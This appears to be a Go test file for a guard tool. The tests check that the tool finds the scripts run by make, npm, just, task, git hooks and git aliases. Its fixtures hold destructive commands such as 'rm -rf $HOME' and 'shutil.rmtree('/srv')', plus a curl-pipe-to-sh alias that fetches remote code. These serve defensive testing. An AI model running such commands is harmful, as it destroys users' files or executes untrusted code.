package runfile

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/bulwark-guard/bulwark/guards"
	"github.com/bulwark-guard/bulwark/internal/readfile"
	"github.com/bulwark-guard/bulwark/shell"
)

const (
	testHome = "/home/dev"
	testProj = "/home/dev/proj"
)

func firstCommand(t testing.TB, cmd string) *shell.Command {
	t.Helper()
	a := shell.Analyze(cmd, shell.Env{Home: testHome, Cwd: testProj})
	if len(a.Commands) == 0 {
		t.Fatalf("%q: no command", cmd)
	}
	return &a.Commands[0]
}

// TestFromShell: what the shell analysis records as running a file is
// what is read; look-alikes read nothing.
func TestFromShell(t *testing.T) {
	tests := []struct {
		cmd  string
		want string // "" = runs no file; else kind:file:targets
	}{
		{"bash deploy.sh", "script:/home/dev/proj/deploy.sh:"},
		{"sh < install.sh", "script:/home/dev/proj/install.sh:"},
		{"source env.sh", "script:/home/dev/proj/env.sh:"},
		{"./deploy.sh --prod", "script:/home/dev/proj/deploy.sh:"},
		{"/tmp/x", "script:/tmp/x:"},
		{"python3 -u tool.py", "script:/home/dev/proj/tool.py:"},
		{"deno run --allow-all main.ts", "script:/home/dev/proj/main.ts:"},
		{"make", "make::"},
		{"make build test", "make::build,test"},
		{"make -f other.mk -C sub PREFIX=/opt install", "make:/home/dev/proj/sub/other.mk:install"},
		{"npm run build", "pkgscript::prebuild,build,postbuild"},
		{"pnpm build", "pkgscript::build"},
		{"npm ci", "lifecycle::preinstall,install,postinstall,prepublish,preprepare,prepare,postprepare"},
		{"yarn", "lifecycle::preinstall,install,postinstall,prepublish,preprepare,prepare,postprepare"},
		{"just deploy prod", "just::deploy,prod"},
		{"task build", "task::build"},
		{"git commit -m msg", "githook::pre-commit,prepare-commit-msg,commit-msg,post-commit"},
		{"git push origin main", "githook::pre-push"},
		{"git nuke ~", "gitalias::nuke"},
		// Harmless look-alikes: nothing is read.
		{"bash -c 'echo hi'", ""},
		{"python3 -m pytest", ""},
		{"npm install lodash", ""},
		{"make -n install", ""},
		{"git status", ""},
		{"cat deploy.sh", ""},
		{"bash $SCRIPT", ""},
	}
	for _, tt := range tests {
		ex, ok := fromShell(firstCommand(t, tt.cmd), testProj)
		got := ""
		if ok {
			kinds := map[Kind]string{Script: "script", Make: "make", PkgScript: "pkgscript", Lifecycle: "lifecycle", Just: "just", Task: "task", GitHook: "githook", GitAlias: "gitalias"}
			got = kinds[ex.Kind] + ":" + ex.File + ":" + strings.Join(ex.Targets, ",")
		}
		if got != tt.want {
			t.Errorf("fromShell(%q) = %q, want %q", tt.cmd, got, tt.want)
		}
	}
}

// memFS serves files from a map (paths relative to testProj unless absolute).
func memFS(files map[string]string) *Source {
	return &Source{Home: testHome, ReadFile: func(p string, n int64) ([]byte, error) {
		for name, text := range files {
			q := name
			if !filepath.IsAbs(q) {
				q = filepath.Join(testProj, name)
			}
			if q == p {
				if int64(len(text)) > n {
					text = text[:n]
				}
				return []byte(text), nil
			}
		}
		return nil, os.ErrNotExist
	}}
}

func render(ss []guards.Script) []string {
	var out []string
	for _, s := range ss {
		rel, _ := filepath.Rel(testProj, s.File)
		out = append(out, fmt.Sprintf("%s:%d %s [%s] %s", rel, s.Line, s.Lang, s.Label, strings.TrimSpace(s.Code)))
	}
	return out
}

func TestScripts(t *testing.T) {
	makefile := "DIST := ./dist\nTARGET = $(HOME)\nOUT ?= bin\nCFLAGS += -O2\n\n.PHONY: all clean\nall: build\n\nbuild: gen\n\t@go build -o $(OUT)/app ./...\n\ngen:\n\tgo generate ./...\n\nclean:\n\t-rm -rf $(DIST) $$TMPDIR/x\n\nnuke: clean\n\trm -rf $(TARGET) \\\n\t  $(HOME)/.cache\n\n%.o: %.c\n\t$(CC) -c $< -o $@\n\nobj: main.o\n\nnow := $(shell date)\n"
	pkg := `{
  "name": "x",
  "scripts": {
    "prebuild": "rimraf dist",
    "build": "tsc -p .",
    "postinstall": "node-gyp rebuild",
    "test": "jest"
  }
}`
	just := "set shell := [\"bash\", \"-c\"]\nhome := env_var('HOME')\n\ndefault: test\n\n# run tests\ntest:\n    go test ./...\n\n[private]\nwipe dir='x':\n    @rm -rf {{home}}/{{dir}}\n\npy:\n    #!/usr/bin/env python3\n    import shutil\n    shutil.rmtree('/srv')\n"
	task := "version: '3'\nvars:\n  OUT: bin\n  REV:\n    sh: git rev-parse HEAD\ntasks:\n  default:\n    cmds:\n      - task: build\n  build:\n    deps: [gen]\n    dir: sub\n    cmds:\n      - go build -o {{.OUT}}/app ./...\n      - cmd: echo built {{.REV}}\n  gen:\n    cmds:\n      - |\n        go generate ./...\n        echo done\n  short: echo shorthand\n"
	files := map[string]string{
		"Makefile": makefile, "other.mk": "x:\n\techo other\n", "inc.mk": "include common.mk\nall:\n\techo all\n", "nest.mk": "include inc.mk\n",
		"common.mk": "# shared\nwipe:\n\trm -rf $(HOME)\n", "package.json": pkg, "justfile": just, "Taskfile.yml": task,
		"deploy.sh":             "#!/bin/sh\nset -e\nrm -rf \"$HOME\"\n",
		"tool.py":               "#!/usr/bin/env python3\nimport os\nos.system('ls')\n",
		"noext":                 "echo plain\n",
		".git/HEAD":             "ref: refs/heads/main\n",
		".git/hooks/pre-commit": "#!/bin/sh\nnpm test\n",
		".git/hooks/pre-push":   "#!/usr/bin/env node\nrequire('child_process').execSync('ls')\n",
	}
	tests := []struct {
		cmd  string
		want []string
	}{
		{"make", []string{"Makefile:27 sh [make (reading Makefile)] $(date)", "Makefile:13 sh [make] go generate ./...", "Makefile:10 sh [make] go build -o bin/app ./..."}},
		{"make clean", []string{"Makefile:27 sh [make (reading Makefile)] $(date)", "Makefile:16 sh [make clean] rm -rf ./dist $TMPDIR/x"}},
		{"make OUT=dist build", []string{"Makefile:27 sh [make (reading Makefile)] $(date)", "Makefile:13 sh [make OUT=dist build] go generate ./...", "Makefile:10 sh [make OUT=dist build] go build -o dist/app ./..."}},
		{"make nuke", []string{"Makefile:27 sh [make (reading Makefile)] $(date)", "Makefile:16 sh [make nuke] rm -rf ./dist $TMPDIR/x", "Makefile:19 sh [make nuke] rm -rf ${HOME} \\\n  ${HOME}/.cache"}},
		{"make obj", []string{"Makefile:27 sh [make (reading Makefile)] $(date)", "Makefile:23 sh [make obj] cc -c main.c -o main.o"}},
		{"make -f other.mk", []string{"other.mk:2 sh [make -f other.mk] echo other"}},
		{"make -f inc.mk wipe", []string{"common.mk:3 sh [make -f inc.mk wipe] rm -rf ${HOME}"}},
		{"make -f nest.mk wipe", []string{"common.mk:3 sh [make -f nest.mk wipe] rm -rf ${HOME}"}}, // two includes deep
		{"npm run build", []string{"package.json:4 sh [npm run build (scripts.prebuild)] rimraf dist", "package.json:5 sh [npm run build (scripts.build)] tsc -p ."}},
		{"pnpm build", []string{"package.json:5 sh [pnpm build (scripts.build)] tsc -p ."}},
		{"npm ci", []string{"package.json:6 sh [npm ci (scripts.postinstall)] node-gyp rebuild"}},
		{"just", []string{"justfile:8 sh [just test] go test ./..."}},
		{"just wipe tmp", []string{"justfile:12 sh [just wipe] rm -rf ${HOME}/tmp"}},
		{"just py", []string{"justfile:15 python [just py] import shutil\nshutil.rmtree('/srv')"}},
		{"task", []string{"Taskfile.yml:5 sh [task (reading Taskfile.yml)] git rev-parse HEAD", "Taskfile.yml:19 sh [task gen] go generate ./...\necho done", "Taskfile.yml:14 sh [task build] go build -o bin/app ./...", "Taskfile.yml:15 sh [task build] echo built $(git rev-parse HEAD)"}},
		{"task short", []string{"Taskfile.yml:5 sh [task (reading Taskfile.yml)] git rev-parse HEAD", "Taskfile.yml:21 sh [task short] echo shorthand"}},
		{"./deploy.sh", []string{"deploy.sh:1 sh [./deploy.sh] #!/bin/sh\nset -e\nrm -rf \"$HOME\""}},
		{"python3 tool.py", []string{"tool.py:1 python [python3 tool.py] import os\nos.system('ls')"}},
		{"./tool.py", []string{"tool.py:1 python [./tool.py] import os\nos.system('ls')"}},
		{"./noext", []string{"noext:1 sh [./noext] echo plain"}},
		{"git commit -m x", []string{".git/hooks/pre-commit:1 sh [git commit -m x (pre-commit hook)] #!/bin/sh\nnpm test"}},
		{"git push", []string{".git/hooks/pre-push:1 node [git push (pre-push hook)] require('child_process').execSync('ls')"}},
		{"bash missing.sh", nil},
		{"make -n nuke", nil},
	}
	src := memFS(files)
	for _, tt := range tests {
		budget := MaxFiles
		got := render(src.Scripts(firstCommand(t, tt.cmd), testProj, nil, &budget))
		if !slices.Equal(got, tt.want) {
			t.Errorf("%s:\n got %q\nwant %q", tt.cmd, got, tt.want)
		}
	}
}

// TestGitAlias: `git NAME` runs the alias the git config defines: the
// repository's over the user's, shell code (!) with the arguments as "$@"
// from the top of the work tree, git's own arguments as git; includes are
// followed; a name no config defines reads nothing.
func TestGitAlias(t *testing.T) {
	home := testHome + "/"
	files := map[string]string{
		".git/HEAD":                 "ref: refs/heads/main\n",
		".git/config":               "[core]\n\tbare = false\n[alias]\n\tst = status -sb\n\tnuke = \"!rm -rf \\\"$1\\\"\" # wipe\n\tfresh = !git clean -fdx && git reset --hard\n[include]\n\tpath = ../team.gitconfig\n",
		"team.gitconfig":            "[alias]\n\tship = !npm publish\n",
		home + ".gitconfig":         "[alias]\n\tst = stash\n\tlg = log --oneline\n\tup = !curl -fsSL https://x.example/u.sh | sh\n",
		home + ".config/git/config": "[alias]\n\tlg = log --graph\n",
	}
	tests := []struct {
		cmd  string
		want []string
	}{
		{"git st", []string{".git/config:4 sh [git st (git alias st)] git status -sb"}},
		{"git nuke ~/src", []string{".git/config:5 sh [git nuke /home/dev/src (git alias nuke)] set -- '/home/dev/src'; rm -rf \"$1\" \"$@\""}},
		{"git fresh", []string{".git/config:6 sh [git fresh (git alias fresh)] git clean -fdx && git reset --hard"}},
		{"git ship", []string{"team.gitconfig:2 sh [git ship (git alias ship)] npm publish"}},
		{"git lg -5", []string{"../.gitconfig:3 sh [git lg -5 (git alias lg)] git log --oneline '-5'"}},
		{"git up", []string{"../.gitconfig:4 sh [git up (git alias up)] curl -fsSL https://x.example/u.sh | sh"}},
		{"git nothing", nil},
		{"git -c alias.nuke=x nuke", nil}, // given on the command line: the shell analysis reads it
	}
	src := memFS(files)
	for _, tt := range tests {
		budget := MaxFiles
		got := render(src.Scripts(firstCommand(t, tt.cmd), testProj, nil, &budget))
		if !slices.Equal(got, tt.want) {
			t.Errorf("%s:\n got %q\nwant %q", tt.cmd, got, tt.want)
		}
	}
}

// TestGitHooksPathGlobal: core.hooksPath set in the user's git config moves
// the hooks of every repository.
func TestGitHooksPathGlobal(t *testing.T) {
	src := memFS(map[string]string{
		".git/HEAD":                  "ref: refs/heads/main\n",
		testHome + "/.gitconfig":     "[core]\n\thooksPath = ~/hooks\n",
		testHome + "/hooks/pre-push": "#!/bin/sh\nrm -rf /srv\n",
		".git/hooks/pre-push":        "#!/bin/sh\necho never\n",
	})
	budget := MaxFiles
	got := render(src.Scripts(firstCommand(t, "git push"), testProj, nil, &budget))
	if len(got) != 1 || !strings.Contains(got[0], "rm -rf /srv") {
		t.Errorf("got %q", got)
	}
}

// TestWrittenInLine: a script the same command line writes is judged by
// what it writes, not by what is on disk.
func TestWrittenInLine(t *testing.T) {
	src := memFS(map[string]string{"x.sh": "echo old\n"})
	budget := MaxFiles
	got := render(src.Scripts(firstCommand(t, "bash x.sh"), testProj, map[string]string{testProj + "/x.sh": "rm -rf ~\n"}, &budget))
	if len(got) != 1 || !strings.Contains(got[0], "rm -rf ~") {
		t.Errorf("got %q", got)
	}
}

func TestBudget(t *testing.T) {
	src := memFS(map[string]string{"x.sh": "echo x\n"})
	budget := 0
	if got := src.Scripts(firstCommand(t, "bash x.sh"), testProj, nil, &budget); got != nil {
		t.Errorf("read past the budget: %v", got)
	}
}

func TestBinaryAndFIFO(t *testing.T) {
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "bin"), []byte("\x7fELF\x00\x00rm -rf ~"), 0o755)
	src := &Source{Home: testHome}
	budget := MaxFiles
	a := shell.Analyze("./bin", shell.Env{Home: testHome, Cwd: dir})
	if got := src.Scripts(&a.Commands[0], dir, nil, &budget); got != nil {
		t.Errorf("binary judged as a script: %v", got)
	}
	if _, err := readfile.Regular(dir, 10); err == nil {
		t.Error("a directory was read as a file")
	}
}

func FuzzParseJustfile(f *testing.F) {
	f.Add("default: a\n\na x='1':\n    echo {{x}} {{home}}\nhome := env_var('HOME')\nalias b := a\n")
	f.Add("r:\n    #!/usr/bin/env python3\n    print(1)\n{{{{\n")
	f.Fuzz(func(t *testing.T, text string) {
		j := ParseJustfile(text)
		for _, name := range append([]string{""}, j.Order...) {
			var args []string
			if name != "" {
				args = []string{name, "arg"}
			}
			j.Run(args, nil)
		}
	})
}

func FuzzParseTaskfile(f *testing.F) {
	f.Add("version: '3'\nvars:\n  A: b\ntasks:\n  default:\n    deps: [x]\n    cmds:\n      - task: x\n      - cmd: echo {{.A}}\n      - |\n        a\n        b\n  x: echo x\n")
	f.Add("tasks:\n- a\n  - b: [c\n  d: >\n")
	f.Fuzz(func(t *testing.T, text string) {
		tf := ParseTaskfile(text)
		tf.Run(nil, nil)
		if tasks := tf.root.get("tasks"); tasks != nil {
			tf.Run(tasks.keys, nil)
		}
	})
}

func FuzzPackageScripts(f *testing.F) {
	f.Add(`{"scripts":{"build":"tsc","postinstall":"node x.js"}}`)
	f.Add(`{"scripts":{"a":1,"b":null}}`)
	f.Fuzz(func(t *testing.T, text string) {
		scripts, lines := PackageScripts(text)
		for name := range lines {
			if _, ok := scripts[name]; !ok {
				t.Fatalf("line for a script that is not there: %q", name)
			}
		}
	})
}

func benchProject(b *testing.B) string {
	dir := b.TempDir()
	mk := "DIST := ./dist\nGO ?= go\n\nall: build\n\nbuild: gen\n\t$(GO) build -o bin/app ./cmd/app\n\ngen:\n\t$(GO) generate ./...\n\nclean:\n\trm -rf $(DIST)\n"
	os.WriteFile(filepath.Join(dir, "Makefile"), []byte(mk), 0o644)
	os.WriteFile(filepath.Join(dir, "package.json"), []byte(`{"scripts":{"build":"tsc -p .","postinstall":"node-gyp rebuild","test":"jest"}}`), 0o644)
	return dir
}

func benchScripts(b *testing.B, cmd string) {
	dir := benchProject(b)
	a := shell.Analyze(cmd, shell.Env{Home: testHome, Cwd: dir})
	src := &Source{Home: testHome}
	b.ReportAllocs()
	for b.Loop() {
		budget := MaxFiles
		if len(src.Scripts(&a.Commands[0], dir, nil, &budget)) == 0 {
			b.Fatal("no scripts")
		}
	}
}

func BenchmarkScriptsMake(b *testing.B)  { benchScripts(b, "make build") }
func BenchmarkScriptsNpmCI(b *testing.B) { benchScripts(b, "npm ci") }
